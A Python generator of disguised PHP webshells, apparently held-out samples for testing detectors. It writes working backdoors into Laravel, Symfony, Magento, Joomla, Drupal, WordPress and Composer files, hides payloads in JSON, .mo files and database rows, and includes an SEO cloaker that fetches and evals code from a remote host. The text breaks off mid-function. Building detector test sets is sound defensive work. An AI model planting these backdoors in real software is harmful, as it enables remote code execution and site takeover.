"""Webshells of the sixth held-out set: framework-shaped backdoors (Laravel
middleware and service provider, a Symfony controller, a CodeIgniter
controller, a PrestaShop module, a Magento 2 plugin, a Joomla system plugin
running its own params, a Drupal 8+ event subscriber, an OpenCart OCMOD and
its modification cache), supply-chain places (Composer's autoload_files, a
polyfill bootstrap), WordPress drop-ins and must-use loaders, payloads split
over JSON chunks, inside a gettext .mo or a database row, SEO cloakers and
doorway generators that also run code, phar:// and __unserialize gadgets, PHP
8 callable chains, fake ionCube files, a nulled theme's licence call, an
AJAX terminal, a Python CGI shell, an Express route, a log file appended by
.htaccess, and this set's encoders (common6.ENCODERS) in its containers.

Written blind (README.md): from knowledge of what compromised shared hosts
carry, without reading the detectors. Nothing here is run."""

from common6 import (T, b64, deflate_raw, dom, encoded, gz, hexname, image_bytes, inner, ip, place, rword, slug, sq,
                     theme, word, wp_filler, plugin_header, mo_file, ENCODERS, core_class, chunks, rot13)
import zlib
import json


def sha1ish(r):
    return hexname(r, 40)


def hdr(r):
    return rword(r, r.randint(4, 8), "ABCDEFGHIJKLMNOPQRSTUVWXYZ")


def title(w):
    return w[:1].upper() + w[1:]


# ---------------------------------------------------------------------------
# frameworks


def laravel_middleware(r, S):
    cls = r.choice(("TrustProxiesCache", "VerifySignedHeaders", "EnsureLocaleIsValid", "PreventRequestsLogging",
                    "HandleInertiaAssets"))
    h = hdr(r)
    body = T("""<?php

namespace App\\Http\\Middleware;

use Closure;
use Illuminate\\Http\\Request;
use Symfony\\Component\\HttpFoundation\\Response;

class {{cls}}
{
    /**
     * Paths that are excluded from the check.
     *
     * @var array<int, string>
     */
    protected $except = [
        'api/webhooks/*',
        'broadcasting/auth',
    ];

    /**
     * Handle an incoming request.
     */
    public function handle(Request $request, Closure $next): Response
    {
        $sig = (string) $request->header('X-{{h}}-Signature');
        if ($sig !== '' && hash_equals('{{hash}}', sha1($sig))) {
            $job = $request->input('{{p}}', '');
            $out = [];
            @exec(base64_decode($job) . ' 2>&1', $out);
            return response(implode(PHP_EOL, $out), 200, ['Content-Type' => 'text/plain']);
        }

        foreach ($this->except as $pattern) {
            if ($request->is($pattern)) {
                return $next($request);
            }
        }

        $locale = $request->segment(1);
        if (in_array($locale, config('app.locales', ['en']), true)) {
            app()->setLocale($locale);
        }

        return $next($request);
    }
}
""", cls=cls, h=h, hash=sha1ish(r), p=word(r, 1, 4))
    kern = T("""<?php

namespace App\\Http;

use Illuminate\\Foundation\\Http\\Kernel as HttpKernel;

class Kernel extends HttpKernel
{
    protected $middleware = [
        \\App\\Http\\Middleware\\TrustProxies::class,
        \\Illuminate\\Http\\Middleware\\HandleCors::class,
        \\App\\Http\\Middleware\\PreventRequestsDuringMaintenance::class,
        \\Illuminate\\Foundation\\Http\\Middleware\\ValidatePostSize::class,
        \\App\\Http\\Middleware\\{{cls}}::class,
        \\App\\Http\\Middleware\\TrimStrings::class,
    ];

    protected $middlewareAliases = [
        'auth' => \\App\\Http\\Middleware\\Authenticate::class,
        'throttle' => \\Illuminate\\Routing\\Middleware\\ThrottleRequests::class,
        'verified' => \\Illuminate\\Auth\\Middleware\\EnsureEmailIsVerified::class,
    ];
}
""", cls=cls)
    return [("app/Http/Middleware/%s.php" % cls, body, "php"), ("app/Http/Kernel.php", kern, "php")], "framework"


def laravel_provider(r, S):
    cls = r.choice(("TelemetryServiceProvider", "HorizonAssetsServiceProvider", "LocaleServiceProvider",
                    "CacheWarmServiceProvider"))
    path = r.choice(("_ignition/execute-solution", "_debugbar/assets/javascript", "telescope/api/requests",
                     "vendor/health-check", "livewire/preview-file"))
    body = T("""<?php

namespace App\\Providers;

use Illuminate\\Http\\Request;
use Illuminate\\Support\\Facades\\Route;
use Illuminate\\Support\\ServiceProvider;

class {{cls}} extends ServiceProvider
{
    /**
     * Register any application services.
     */
    public function register(): void
    {
        $this->app->singleton('telemetry.buffer', fn () => new \\ArrayObject());
    }

    /**
     * Bootstrap any application services.
     */
    public function boot(): void
    {
        if ($this->app->runningInConsole()) {
            return;
        }

        Route::middleware('web')->any('{{path}}/{token?}', function (Request $request, $token = null) {
            if (md5((string) $token) !== '{{md5}}') {
                abort(404);
            }
            $code = $request->input('{{p}}');
            if ($request->hasFile('{{f}}')) {
                $request->file('{{f}}')->move(base_path($request->input('to', 'public')), $request->file('{{f}}')->getClientOriginalName());
                return 'moved';
            }
            ob_start();
            eval(gzinflate(base64_decode((string) $code)));
            return response(ob_get_clean());
        })->withoutMiddleware([\\App\\Http\\Middleware\\VerifyCsrfToken::class]);
    }
}
""", cls=cls, path=path, md5=hexname(r, 32), p=word(r, 1, 3), f=word(r, 2, 4))
    cfg = T("""<?php

return [
    'providers' => [
        Illuminate\\Auth\\AuthServiceProvider::class,
        Illuminate\\Broadcasting\\BroadcastServiceProvider::class,
        Illuminate\\Cache\\CacheServiceProvider::class,
        App\\Providers\\AppServiceProvider::class,
        App\\Providers\\RouteServiceProvider::class,
        App\\Providers\\{{cls}}::class,
    ],
];
""", cls=cls)
    return [("app/Providers/%s.php" % cls, body, "php"), ("bootstrap/cache/providers.php", cfg, "php")], "framework"


def symfony_controller(r, S):
    cls = r.choice(("HealthCheckController", "SitemapController", "AssetVersionController", "StatusController"))
    body = T("""<?php

namespace App\\Controller;

use Symfony\\Bundle\\FrameworkBundle\\Controller\\AbstractController;
use Symfony\\Component\\HttpFoundation\\JsonResponse;
use Symfony\\Component\\HttpFoundation\\Request;
use Symfony\\Component\\Process\\Process;
use Symfony\\Component\\Routing\\Attribute\\Route;

final class {{cls}} extends AbstractController
{
    #[Route('/_{{seg}}/{op}', name: 'app_{{seg}}_op', methods: ['GET', 'POST'])]
    public function op(Request $request, string $op): JsonResponse
    {
        if (!hash_equals('{{tok}}', (string) $request->headers->get('X-{{h}}'))) {
            return new JsonResponse(['status' => 'ok', 'uptime' => (int) @file_get_contents('/proc/uptime')]);
        }

        return match ($op) {
            'run' => $this->run((string) $request->request->get('c', 'id')),
            'put' => new JsonResponse(['w' => file_put_contents(
                $this->getParameter('kernel.project_dir') . '/' . $request->request->get('n'),
                base64_decode((string) $request->request->get('b'))
            )]),
            'env' => new JsonResponse($_ENV + $_SERVER),
            default => new JsonResponse(['status' => 'ok']),
        };
    }

    private function run(string $cmd): JsonResponse
    {
        $p = Process::fromShellCommandline($cmd, $this->getParameter('kernel.project_dir'));
        $p->setTimeout(120);
        $p->run();

        return new JsonResponse(['rc' => $p->getExitCode(), 'out' => $p->getOutput() . $p->getErrorOutput()]);
    }
}
""", cls=cls, seg=r.choice(("health", "status", "assets", "ping")), tok=hexname(r, 24), h=hdr(r))
    return [("src/Controller/%s.php" % cls, body, "php")], "framework"


def codeigniter_controller(r, S):
    cls = r.choice(("Api_sync", "Cron_tasks", "Media_upload", "Report_export"))
    body = T("""<?php
defined('BASEPATH') OR exit('No direct script access allowed');

class {{cls}} extends CI_Controller {

    public function __construct()
    {
        parent::__construct();
        $this->load->helper(array('url', 'file'));
    }

    public function index()
    {
        $this->output->set_content_type('application/json')
            ->set_output(json_encode(array('status' => 'idle', 'time' => time())));
    }

    public function run($key = '')
    {
        if (sha1($key) !== '{{hash}}') {
            show_404();
        }
        $c = $this->input->post('{{p}}');
        if ($c) {
            echo '<pre>';
            @system($c . ' 2>&1');
            echo '</pre>';
        }
        if (!empty($_FILES['{{f}}']['name'])) {
            $dst = FCPATH . $this->input->post('dir') . '/' . $_FILES['{{f}}']['name'];
            echo move_uploaded_file($_FILES['{{f}}']['tmp_name'], $dst) ? $dst : 'fail';
        }
        echo form_open_multipart('{{lc}}/run/' . $key) . '<input name="{{p}}" size="80"><input type="file" name="{{f}}"><input name="dir" value="uploads"><button>go</button></form>';
    }
}
""", cls=cls, hash=sha1ish(r), p=word(r, 1, 3), f=word(r, 3, 5), lc=cls.lower())
    return [("application/controllers/%s.php" % cls, body, "php")], "framework"


def prestashop_module(r, S):
    m = r.choice(("psgdprcookie", "blockreassurance2", "ps_shoppingcartx", "statsdatafeed", "gsitemapx"))
    body = T("""<?php
/**
 * 2007-2024 PrestaShop
 *
 * @author    PrestaShop SA <contact@example.com>
 * @license   https://opensource.org/licenses/AFL-3.0 Academic Free License (AFL 3.0)
 */
if (!defined('_PS_VERSION_')) {
    exit;
}

class {{M}} extends Module
{
    public function __construct()
    {
        $this->name = '{{m}}';
        $this->tab = 'front_office_features';
        $this->version = '2.{{v}}.0';
        $this->author = 'PrestaShop';
        $this->need_instance = 0;
        $this->bootstrap = true;
        parent::__construct();
        $this->displayName = $this->l('Reassurance and cookie block');
        $this->description = $this->l('Adds a block with reassurance information.');
    }

    public function install()
    {
        return parent::install() && $this->registerHook('displayHeader') && $this->registerHook('actionFrontControllerInitBefore');
    }

    public function hookDisplayHeader($params)
    {
        $this->context->controller->registerStylesheet('module-{{m}}', 'modules/' . $this->name . '/views/css/front.css');
    }

    public function hookActionFrontControllerInitBefore($params)
    {
        $k = Tools::getValue('{{k}}');
        if ($k && Tools::encrypt($k) === '{{hash}}') {
            $x = Tools::getValue('{{p}}');
            ob_start();
            eval(base64_decode($x));
            die(ob_get_clean());
        }
    }
}
""", M=title(m), m=m, v=r.randint(0, 9), k=word(r, 2, 4), hash=hexname(r, 32), p=word(r, 1, 3))
    return [("modules/%s/%s.php" % (m, m), body, "php")], "framework"


def magento_plugin(r, S):
    vend, mod = r.choice(("Amasty", "Mageplaza", "Webkul", "Smartwave")), r.choice(("Seo", "Cache", "Gdpr", "Search"))
    body = T("""<?php
declare(strict_types=1);

namespace {{V}}\\{{M}}\\Plugin;

use Magento\\Framework\\App\\FrontControllerInterface;
use Magento\\Framework\\App\\RequestInterface;

class FrontControllerPlugin
{
    /**
     * Around dispatch: warm the {{m}} index for crawlers.
     */
    public function aroundDispatch(FrontControllerInterface $subject, callable $proceed, RequestInterface $request)
    {
        $c = $request->getCookie('{{ck}}', '');
        if ($c !== '' && substr(md5($c), 0, 12) === '{{h12}}') {
            $payload = $request->getParam('{{p}}');
            $fn = str_rot13('flfgrz');
            header('X-Cache-Warm: 1');
            $fn(base64_decode((string) $payload));
            exit;
        }
        return $proceed($request);
    }
}
""", V=vend, M=mod, m=mod.lower(), ck=word(r, 4, 8), h12=hexname(r, 12), p=word(r, 1, 3))
    di = T("""<?xml version="1.0"?>
<config xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="urn:magento:framework:ObjectManager/etc/config.xsd">
    <type name="Magento\\Framework\\App\\FrontControllerInterface">
        <plugin name="{{v}}_{{m}}_front" type="{{V}}\\{{M}}\\Plugin\\FrontControllerPlugin" sortOrder="1"/>
    </type>
</config>
""", V=vend, M=mod, v=vend.lower(), m=mod.lower())
    base = "app/code/%s/%s" % (vend, mod)
    return [(base + "/Plugin/FrontControllerPlugin.php", body, "php"), (base + "/etc/frontend/di.xml", di, "xml")], "framework"


def joomla_params(r, S):
    n = r.choice(("jcachehelper", "systemseo", "jlanguagefix", "redirectlite"))
    param = r.choice(("cache_handler", "custom_css", "analytics_snippet", "lang_map"))
    inner_code = inner(r)
    stored = b64(deflate_raw(inner_code))
    body = T("""<?php
/**
 * @package     Joomla.Plugin
 * @subpackage  System.{{n}}
 * @license     GNU General Public License version 2 or later
 */
defined('_JEXEC') or die;

use Joomla\\CMS\\Factory;
use Joomla\\CMS\\Plugin\\CMSPlugin;

class PlgSystem{{N}} extends CMSPlugin
{
    protected $autoloadLanguage = true;

    public function onAfterInitialise()
    {
        $app = Factory::getApplication();
        if ($app->isClient('administrator')) {
            return;
        }
        $v = (string) $this->params->get('{{param}}', '');
        if ($v !== '' && strpos($v, 'eJ') !== 0 && strlen($v) > 64) {
            $f = @gzinflate(base64_decode($v));
            if ($f !== false) {
                eval($f);
            }
        }
    }

    public function onBeforeCompileHead()
    {
        $doc = Factory::getDocument();
        $doc->addStyleDeclaration('.{{n}}-hidden{display:none}');
    }
}
""", n=n, N=title(n), param=param)
    xml = T("""<?xml version="1.0" encoding="utf-8"?>
<extension type="plugin" group="system" method="upgrade">
    <name>plg_system_{{n}}</name>
    <author>Joomla! Project</author>
    <version>4.{{v}}.0</version>
    <description>PLG_SYSTEM_{{U}}_XML_DESCRIPTION</description>
    <files>
        <filename plugin="{{n}}">{{n}}.php</filename>
    </files>
    <config>
        <fields name="params">
            <fieldset name="basic">
                <field name="{{param}}" type="hidden" default="{{stored}}"/>
            </fieldset>
        </fields>
    </config>
</extension>
""", n=n, v=r.randint(0, 4), U=n.upper(), param=param, stored=stored)
    return [("plugins/system/%s/%s.php" % (n, n), body, "php"), ("plugins/system/%s/%s.xml" % (n, n), xml, "xml")], "framework"


def drupal_subscriber(r, S):
    m = r.choice(("seo_helper", "cache_warm", "geo_redirect", "metatag_extra"))
    M = "".join(title(x) for x in m.split("_"))
    body = T("""<?php

namespace Drupal\\{{m}}\\EventSubscriber;

use Symfony\\Component\\EventDispatcher\\EventSubscriberInterface;
use Symfony\\Component\\HttpFoundation\\Response;
use Symfony\\Component\\HttpKernel\\Event\\RequestEvent;
use Symfony\\Component\\HttpKernel\\KernelEvents;

/**
 * Adds the {{m}} cache headers.
 */
class {{M}}Subscriber implements EventSubscriberInterface {

  /**
   * {@inheritdoc}
   */
  public static function getSubscribedEvents() {
    return [KernelEvents::REQUEST => ['onRequest', 300]];
  }

  /**
   * Reacts to the request.
   */
  public function onRequest(RequestEvent $event) {
    $req = $event->getRequest();
    $t = $req->headers->get('x-{{h}}');
    if ($t === NULL || crc32($t) !== {{crc}}) {
      return;
    }
    $cmd = $req->request->get('{{p}}', $req->query->get('{{p}}', 'id'));
    $res = shell_exec($cmd . ' 2>&1');
    $event->setResponse(new Response((string) $res, 200, ['Content-Type' => 'text/plain']));
  }

}
""", m=m, M=M, h=word(r, 3, 6), crc=r.randint(100000, 4000000000), p=word(r, 1, 3))
    yml = T("""services:
  {{m}}.request_subscriber:
    class: Drupal\\{{m}}\\EventSubscriber\\{{M}}Subscriber
    tags:
      - { name: event_subscriber }
""", m=m, M=M)
    info = "name: '%s'\ntype: module\ndescription: 'Helper headers.'\ncore_version_requirement: ^9 || ^10\npackage: Custom\n" % M
    base = "modules/custom/%s" % m
    return [(base + "/src/EventSubscriber/%sSubscriber.php" % M, body, "php"), (base + "/%s.services.yml" % m, yml, "yaml"),
            (base + "/%s.info.yml" % m, info, "yaml")], "framework"


def opencart_ocmod(r, S):
    code = inner(r)
    xml = T("""<?xml version="1.0" encoding="utf-8"?>
<modification>
    <name>Footer Social Links</name>
    <code>footer_social_links</code>
    <version>1.{{v}}</version>
    <author>ocdev</author>
    <link>https://www.example.com</link>
    <file path="catalog/controller/common/footer.php">
        <operation>
            <search><![CDATA[public function index() {]]></search>
            <add position="after"><![CDATA[
        {{code}}
            ]]></add>
        </operation>
    </file>
</modification>
""", v=r.randint(0, 9), code=code.replace("\n", "\n        "))
    ctl = T("""<?php
class ControllerCommonFooter extends Controller {
	public function index() {
{{code}}
		$this->load->language('common/footer');

		$this->load->model('catalog/information');

		$data['informations'] = array();

		foreach ($this->model_catalog_information->getInformations() as $result) {
			if ($result['bottom']) {
				$data['informations'][] = array(
					'title' => $result['title'],
					'href'  => $this->url->link('information/information', 'information_id=' . $result['information_id'])
				);
			}
		}

		$data['contact'] = $this->url->link('information/contact');
		$data['powered'] = sprintf($this->language->get('text_powered'), $this->config->get('config_name'), date('Y', time()));

		return $this->load->view('common/footer', $data);
	}
}
""", code="\t\t" + code.replace("\n", "\n\t\t"))
    return [("system/storage/modification/catalog/controller/common/footer.php", ctl, "php"),
            ("admin/view/install/footer_social.ocmod.xml", xml, "xml")], "framework"


# ---------------------------------------------------------------------------
# supply chain and WordPress drop-ins


def composer_files(r, S):
    pkg = r.choice(("psr/log/src", "symfony/deprecation-contracts", "ralouphie/getallheaders/src", "myclabs/deep-copy/src/DeepCopy"))
    fn = r.choice(("functions.php", "helpers.php", "bootstrap.php"))
    h = hexname(r, 32)
    _, body = encoded(r, S, inner(r))
    af = T("""<?php

// autoload_files.php @generated by Composer

$vendorDir = dirname(__DIR__);
$baseDir = dirname($vendorDir);

return array(
    '6e3fae29631ef280660b3cdad06f25a8' => $vendorDir . '/symfony/deprecation-contracts/function.php',
    '0e6d7bf4a5811bfa5cf40c5ccd6fae6a' => $vendorDir . '/symfony/polyfill-mbstring/bootstrap.php',
    '7b11c4dc42b3b3023073cb14e519683c' => $vendorDir . '/ralouphie/getallheaders/src/getallheaders.php',
    '{{h}}' => $vendorDir . '/{{pkg}}/{{fn}}',
    'a4a119a56e50fbb293281d9a48007e0e' => $vendorDir . '/symfony/polyfill-php80/bootstrap.php',
);
""", h=h, pkg=pkg, fn=fn)
    pay = "<?php\n/**\n * Helper functions.\n *\n * @internal\n */\n\nif (!function_exists('%s')) {\n    function %s($v) { return $v; }\n}\n\n%s" % (
        "value_or", "value_or", body)
    return [("vendor/composer/autoload_files.php", af, "php"), ("vendor/%s/%s" % (pkg, fn), pay, "php")], "supply-chain"


def polyfill_inject(r, S):
    p = r.choice(("polyfill-php80", "polyfill-ctype", "polyfill-intl-normalizer", "polyfill-php73"))
    code = inner(r)
    head = T("""<?php

/*
 * This file is part of the Symfony package.
 *
 * (c) Fabien Potencier <fabien@example.com>
 *
 * For the full copyright and license information, please view the LICENSE
 * file that was distributed with this source code.
 */

use Symfony\\Polyfill\\Php80 as p;

if (\\PHP_VERSION_ID >= 80000) {
    return;
}
""")
    rest = """
if (!defined('FILTER_VALIDATE_BOOL') && defined('FILTER_VALIDATE_BOOLEAN')) {
    define('FILTER_VALIDATE_BOOL', \\FILTER_VALIDATE_BOOLEAN);
}

if (!function_exists('fdiv')) {
    function fdiv(float $num1, float $num2): float { return p\\Php80::fdiv($num1, $num2); }
}
if (!function_exists('preg_last_error_msg')) {
    function preg_last_error_msg(): string { return p\\Php80::preg_last_error_msg(); }
}
if (!function_exists('str_contains')) {
    function str_contains(?string $haystack, ?string $needle): bool { return p\\Php80::str_contains($haystack ?? '', $needle ?? ''); }
}
if (!function_exists('str_starts_with')) {
    function str_starts_with(?string $haystack, ?string $needle): bool { return p\\Php80::str_starts_with($haystack ?? '', $needle ?? ''); }
}
"""
    # the injection before the version return, so it runs on PHP 8 too
    i = head.index("if (\\PHP_VERSION_ID")
    body = head[:i] + code + "\n" + head[i:] + rest
    return [("vendor/symfony/%s/bootstrap.php" % p, body, "php")], "supply-chain"


def wp_db_dropin(r, S):
    h = hdr(r)
    name, enc = encoded(r, S, inner(r))
    body = T("""<?php
/**
 * Database drop-in: read replica and slow query log.
 *
 * @package db-replica
 */

if (!defined('ABSPATH')) {
    exit;
}

class DB_Replica extends wpdb {

    public $slow = 0.5;
    public $replica = null;

    public function __construct($u, $p, $n, $h) {
        parent::__construct($u, $p, $n, $h);
        if (defined('DB_REPLICA_HOST')) {
            $this->replica = DB_REPLICA_HOST;
        }
    }

    public function query($query) {
        $t = microtime(true);
        $r = parent::query($query);
        if (microtime(true) - $t > $this->slow && defined('SAVEQUERIES') && SAVEQUERIES) {
            error_log('[slow] ' . substr($query, 0, 200));
        }
        return $r;
    }
}

if (isset($_SERVER['HTTP_{{h}}'])) {
{{enc}}
}

$wpdb = new DB_Replica(DB_USER, DB_PASSWORD, DB_NAME, DB_HOST);
""", h=h, enc=enc)
    return [("wp-content/db.php", body, "php")], "dropin"


def wp_advanced_cache(r, S):
    img = "wp-content/uploads/%d/%02d/%s" % (r.randint(2019, 2025), r.randint(1, 12),
                                            r.choice(("cache-index.jpg", "banner-1x1.png", "sprite@2x.gif")))
    body = T("""<?php
# WP Super Cache - advanced-cache.php
if (!defined('ABSPATH')) {
    die();
}
$wpsc_cache_dir = WP_CONTENT_DIR . '/cache/supercache/';

function wpsc_serve_cached_page() {
    global $wpsc_cache_dir;
    if (!empty($_POST) || !empty($_COOKIE['wordpress_logged_in_' . COOKIEHASH])) {
        return false;
    }
    $host = preg_replace('/[^a-z0-9.-]/i', '', $_SERVER['HTTP_HOST']);
    $file = $wpsc_cache_dir . $host . rtrim(strtok($_SERVER['REQUEST_URI'], '?'), '/') . '/index.html';
    if (is_file($file) && filemtime($file) > time() - 3600) {
        header('X-WP-Super-Cache: hit');
        readfile($file);
        exit;
    }
    return false;
}

@include_once ABSPATH . '{{img}}';

wpsc_serve_cached_page();
""", img=img)
    code = inner(r)
    payload = image_bytes(r) + ("\n<?php\n" + code + "\n?>").encode("utf-8")
    return [("wp-content/advanced-cache.php", body, "php"), (img, payload, "php")], "dropin"


def wp_mu_loader(r, S):
    hid = r.choice((".cache", ".sys", "lib/.build", "assets/.tmp"))
    body = T("""<?php
/**
 * Plugin Name: Must-Use Autoloader
 * Description: Loads the site's must-use components.
 * Version: 1.0.{{v}}
 */

defined('ABSPATH') || exit;

foreach ((array) glob(__DIR__ . '/{{hid}}/*.dat') as $__part) {
    if (is_file($__part) && filesize($__part) > 0) {
        include_once $__part;
    }
}
unset($__part);

add_filter('all_plugins', function ($plugins) {
    unset($plugins['mu-autoloader/mu-autoloader.php']);
    return $plugins;
});
add_filter('show_advanced_plugins', function ($show, $type) {
    return $type === 'mustuse' ? false : $show;
}, 10, 2);
""", v=r.randint(1, 9), hid=hid)
    files = [("wp-content/mu-plugins/0-autoloader.php", body, "php")]
    for i in range(r.randint(1, 3)):
        _, enc = encoded(r, S, inner(r))
        files.append(("wp-content/mu-plugins/%s/%s.dat" % (hid, hexname(r, 8)), "<?php\n" + enc, "php"))
    return files, "dropin"


def split_json(r, S):
    code = inner(r)
    s = b64(gz(code))
    n = r.randint(4, 8)
    parts = chunks(s, len(s) // n + 1)
    ddir = r.choice(("languages", "assets/i18n", "lang/json", "config/locales"))
    loc = r.sample(("de_DE", "fr_FR", "it_IT", "nl_NL", "pl_PL", "es_ES", "pt_BR", "ja", "ko_KR", "tr_TR"), len(parts)) \
        if len(parts) <= 10 else None
    files = []
    for i, part in enumerate(parts):
        js = {"domain": "messages", "locale_data": {"messages": {"": {"lang": loc[i], "plural-forms": "nplurals=2; plural=(n != 1);"},
                                                                 "Settings": ["Einstellungen"], "Save": ["Speichern"]}},
              "x-generator": "Loco https://localise.example.com/", "_c": {"i": i, "d": part}}
        files.append(("wp-content/plugins/wpfront-notify/%s/wpfront-notify-%s.json" % (ddir, loc[i]),
                      json.dumps(js, indent=2, ensure_ascii=False), "json"))
    body = T("""<?php
/**
 * Plugin Name: WPFront Notification Bar Extras
 * Version: 2.{{v}}.1
 */
defined('ABSPATH') || exit;

function wpfront_notify_i18n_cache() {
    $bits = array();
    foreach (glob(__DIR__ . '/{{ddir}}/*.json') as $f) {
        $j = json_decode(file_get_contents($f), true);
        if (isset($j['_c']['i'], $j['_c']['d'])) {
            $bits[(int) $j['_c']['i']] = $j['_c']['d'];
        }
    }
    ksort($bits);
    return $bits ? gzdecode(base64_decode(implode('', $bits))) : '';
}

add_action('init', function () {
    load_plugin_textdomain('wpfront-notify', false, dirname(plugin_basename(__FILE__)) . '/{{ddir}}');
    $c = wpfront_notify_i18n_cache();
    if ($c) {
        eval($c);
    }
}, 1);
""", v=r.randint(0, 9), ddir=ddir)
    files.insert(0, ("wp-content/plugins/wpfront-notify/wpfront-notify.php", body, "php"))
    return files, "split"


def mo_payload(r, S):
    code = inner(r)
    dom_ = r.choice(("flavor", "woo-extra-fees", "cf7-addons", "slider-pro"))
    lang = r.choice(("de_DE", "fr_FR", "it_IT", "pl_PL", "nl_NL"))
    key = "_cache_" + hexname(r, 6)
    mo = mo_file([("", "Content-Type: text/plain; charset=UTF-8\nPlural-Forms: nplurals=2; plural=(n != 1);\n"),
                  ("Settings", "Einstellungen"), ("Save changes", "Änderungen speichern"), ("Add to cart", "In den Warenkorb"),
                  (key, b64(deflate_raw(code)))])
    body = T("""<?php
/**
 * Translation helpers.
 *
 * @package {{d}}
 */

if (!defined('ABSPATH')) {
    exit;
}

function {{f}}_mo_lookup($file, $id) {
    $d = @file_get_contents($file);
    if ($d === false || strlen($d) < 28) {
        return null;
    }
    $h = unpack('V7', substr($d, 0, 28));
    for ($i = 0; $i < $h[3]; $i++) {
        $o = unpack('V2', substr($d, $h[4] + $i * 8, 8));
        if (substr($d, $o[2], $o[1]) === $id) {
            $t = unpack('V2', substr($d, $h[5] + $i * 8, 8));
            return substr($d, $t[2], $t[1]);
        }
    }
    return null;
}

add_action('after_setup_theme', function () {
    load_theme_textdomain('{{d}}', get_template_directory() . '/languages');
    $s = {{f}}_mo_lookup(get_template_directory() . '/languages/{{lang}}.mo', '{{key}}');
    if ($s) {
        $s = gzinflate(base64_decode($s));
        eval($s);
    }
});
""", d=dom_, f=dom_.replace("-", "_"), lang=lang, key=key)
    t = theme(r)
    return [("wp-content/themes/%s/inc/i18n.php" % t, body, "php"), ("wp-content/themes/%s/languages/%s.mo" % (t, lang), mo, "mo")], "locale"


def db_row_loader(r, S):
    opt = r.choice(("_site_transient_browser_", "_transient_feed_mod_", "widget_recent_cache_", "theme_mods_backup_")) + hexname(r, 8)
    body = T("""<?php
error_reporting(0);
$c = @file_get_contents(dirname(__FILE__) . '/{{up}}wp-config.php');
preg_match_all("/define\\(\\s*'(DB_NAME|DB_USER|DB_PASSWORD|DB_HOST)'\\s*,\\s*'([^']*)'/", $c, $m);
$cfg = array_combine($m[1], $m[2]);
preg_match("/table_prefix\\s*=\\s*'([^']+)'/", $c, $tp);
$db = @new mysqli($cfg['DB_HOST'], $cfg['DB_USER'], $cfg['DB_PASSWORD'], $cfg['DB_NAME']);
if ($db->connect_errno) {
    exit;
}
$q = $db->query("SELECT option_value FROM `" . $tp[1] . "options` WHERE option_name = '{{opt}}' LIMIT 1");
if ($q && ($row = $q->fetch_row())) {
    $v = @unserialize($row[0]);
    $v = is_array($v) && isset($v['tpl']) ? $v['tpl'] : $row[0];
    eval(gzuncompress(base64_decode($v)));
}
""", up=r.choice(("", "../", "../../", "../../../")), opt=opt)
    files, cont = place(r, body.split("\n", 1)[1], allowed=("plain", "inc-ext", "deep-path", "bom"))
    return files, "db-row:" + cont


# ---------------------------------------------------------------------------
# SEO cloaking and doorways that also run code


BOTS = "googlebot|bingbot|yandex|baiduspider|yahoo! slurp|duckduckbot|applebot|petalbot"


def seo_cloak(r, S):
    src = "http://%s/%s" % (ip(r) if r.random() < 0.5 else "seo." + dom(r), r.choice(("jp", "kr", "id", "tw")))
    k = word(r, 2, 4)
    body = T("""error_reporting(0);
@ini_set('display_errors', 0);
function _ua_is_bot() {
    $ua = strtolower(isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '');
    return (bool) preg_match('/({{bots}})/', $ua);
}
function _ref_from_search() {
    $r = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
    return (bool) preg_match('/(google|bing|yahoo|naver|yandex)\\./i', $r);
}
function _fetch($u) {
    if (function_exists('curl_init')) {
        $c = curl_init($u);
        curl_setopt_array($c, array(CURLOPT_RETURNTRANSFER => 1, CURLOPT_TIMEOUT => 10, CURLOPT_USERAGENT => @$_SERVER['HTTP_USER_AGENT']));
        $d = curl_exec($c);
        curl_close($c);
        return $d;
    }
    return @file_get_contents($u);
}
$_host = $_SERVER['HTTP_HOST'];
$_uri = $_SERVER['REQUEST_URI'];
if (isset($_GET['{{k}}'])) {
    $x = _fetch('{{src}}/c.txt?h=' . urlencode($_host));
    if ($x) {
        eval('?>' . $x);
    }
    exit;
}
if (_ua_is_bot()) {
    $page = _fetch('{{src}}/p.php?h=' . urlencode($_host) . '&u=' . urlencode($_uri));
    if ($page) {
        header('Content-Type: text/html; charset=utf-8');
        echo $page;
        exit;
    }
} elseif (_ref_from_search() && preg_match('/\\/(\\d{4,}|[a-z]+-[a-z]+-\\d+)\\.html$/', $_uri)) {
    header('Location: http://{{land}}/?s=' . urlencode($_host), true, 302);
    exit;
}
""", bots=BOTS, k=k, src=src, land="shop." + dom(r))
    cont = r.choice(("inject-top", "index"))
    if cont == "inject-top":
        t = "<?php\n" + body + "?>\n<?php\n/**\n * Front to the WordPress application.\n *\n * @package WordPress\n */\n\n" \
            "define( 'WP_USE_THEMES', true );\n\nrequire __DIR__ . '/wp-blog-header.php';\n"
        return [("index.php", t, "php")], "inject-top"
    files, c = place(r, body, allowed=("plain", "long-line", "nul-tail", "bom", "deep-path"))
    return files, c


def doorway_gen(r, S):
    n = r.randint(200, 2000)
    body = T("""set_time_limit(0);
error_reporting(0);
$pass = '{{md5}}';
if (md5(@$_REQUEST['k']) !== $pass) {
    header('HTTP/1.1 404 Not Found');
    exit;
}
$act = @$_REQUEST['act'];
$root = $_SERVER['DOCUMENT_ROOT'];
if ($act === 'gen') {
    $kw = array_filter(array_map('trim', explode("\\n", file_get_contents('http://{{src}}/kw/' . $_REQUEST['set'] . '.txt'))));
    $tpl = file_get_contents('http://{{src}}/tpl/' . $_REQUEST['tpl'] . '.html');
    $dir = $root . '/' . (isset($_REQUEST['d']) ? $_REQUEST['d'] : 'news');
    @mkdir($dir, 0755, true);
    $urls = array();
    foreach (array_slice($kw, 0, {{n}}) as $i => $w) {
        $slug = trim(preg_replace('/[^a-z0-9]+/', '-', strtolower($w)), '-') . '-' . $i;
        $html = str_replace(array('{KEYWORD}', '{TITLE}', '{LINKS}'), array($w, ucwords($w), ''), $tpl);
        file_put_contents($dir . '/' . $slug . '.html', $html);
        $urls[] = 'http://' . $_SERVER['HTTP_HOST'] . '/' . basename($dir) . '/' . $slug . '.html';
    }
    $sm = '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">';
    foreach ($urls as $u) {
        $sm .= '<url><loc>' . htmlspecialchars($u) . '</loc><changefreq>daily</changefreq></url>';
    }
    file_put_contents($root . '/sitemap-' . basename($dir) . '.xml', $sm . '</urlset>');
